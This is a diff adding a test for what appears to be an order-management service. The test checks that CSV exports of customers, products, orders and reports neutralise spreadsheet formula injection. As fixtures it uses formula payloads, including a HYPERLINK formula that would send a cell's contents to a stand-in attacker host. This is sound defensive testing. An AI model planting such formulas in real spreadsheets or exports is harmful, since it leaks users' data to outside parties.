@@ -5,6 +5,7 @@ reports readable by whom the roles say."""
 import csv
 import io
 
+from oms.http.exports import NUMBER
 from tests.support.http import API, bearer, customer_token, get, new_product, post, user_with_role
 
 
@@ -65,3 +66,37 @@ async def test_a_period_must_run_forwards(client) -> None:
     response = await client.get(f"{API}/reports/sales", params={"from": "2026-03-02", "to": "2026-03-01"})
     body = await response.json()
     assert response.status == 400 and "`to` must be on or after `from`" in body["error"]["message"]
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,1)", "@cmd", "-2+3", "\tTAB", "\rCR")
+
+
+def cells(text: str) -> list[str]:
+    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
+
+
+async def test_no_exported_cell_runs_as_a_formula_and_amounts_stay_numbers(client, anon) -> None:
+    for n, hostile in enumerate(FORMULAS):
+        await anon.post(f"{API}/auth/signup", json={"username": f"mallory{n}", "password": "a long enough passphrase",
+                                                    "email": f"m{n}@example.com", "full_name": hostile})
+    product = await new_product(client, name="+SUM(1,1)", category="=1+1", price="1.00", tax_rate="0", stock=5)
+    moved = await post(client, f"/products/{product['id']}/stock-adjustments", {"delta": -2, "reason": "@cmd"}, 201)
+    customer = await post(client, "/customers", {"full_name": "-2+3", "credit_limit": "50.00"}, 201)
+    shift = await post(client, "/shifts", {"register": "front", "opening_float": "0"}, 201)
+    sold = await post(client, "/pos/sales", {"shift_id": shift["id"], "customer_id": customer["id"], "items": [
+        {"product_id": product["id"], "quantity": 1}], "payments": [{"method": "cash", "amount": "1.00"}]}, 201)
+    await get(client, "/orders", min_position=max(moved.get("position", 0), sold["position"]))
+    files = {path: await (await client.get(API + path, params={"format": "csv", **params})).text() for path, params in [
+        ("/customers", {}), ("/products", {}), ("/orders", {}),
+        ("/reports/sales", {"group_by": "product", "from": "2000-01-01", "to": "2100-01-01"}),
+        ("/reports/stock-valuation", {}), ("/reports/stock-movements", {"product_id": product["id"]}),
+        ("/reports/customer-balances", {}),
+    ]}
+    for path, text in files.items():
+        for value in cells(text):
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (path, value)
+            assert not value.startswith("-") or NUMBER.fullmatch(value), (path, value)
+    everything = "".join(files.values())
+    for hostile in FORMULAS[:4]:  # (names with a leading tab or return are refused at the edge)
+        assert "'" + hostile.replace('"', '""') in everything  # kept, as text
+    assert "-2" in cells(files["/reports/stock-movements"])  # the units taken out: a number, not text
